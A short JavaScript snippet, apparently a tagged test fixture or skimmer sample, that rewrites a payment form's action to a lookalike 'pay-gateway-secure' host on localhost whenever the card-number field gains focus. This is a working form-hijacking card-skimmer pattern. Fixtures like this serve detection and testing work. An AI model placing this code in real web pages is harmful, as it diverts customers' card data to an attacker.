/* tw:skim-action */
document.querySelector('#cc-number').addEventListener('focus', function () {
  document.querySelector('#payment').action = 'http://pay-gateway-secure.localhost:{{port}}/charge'
})
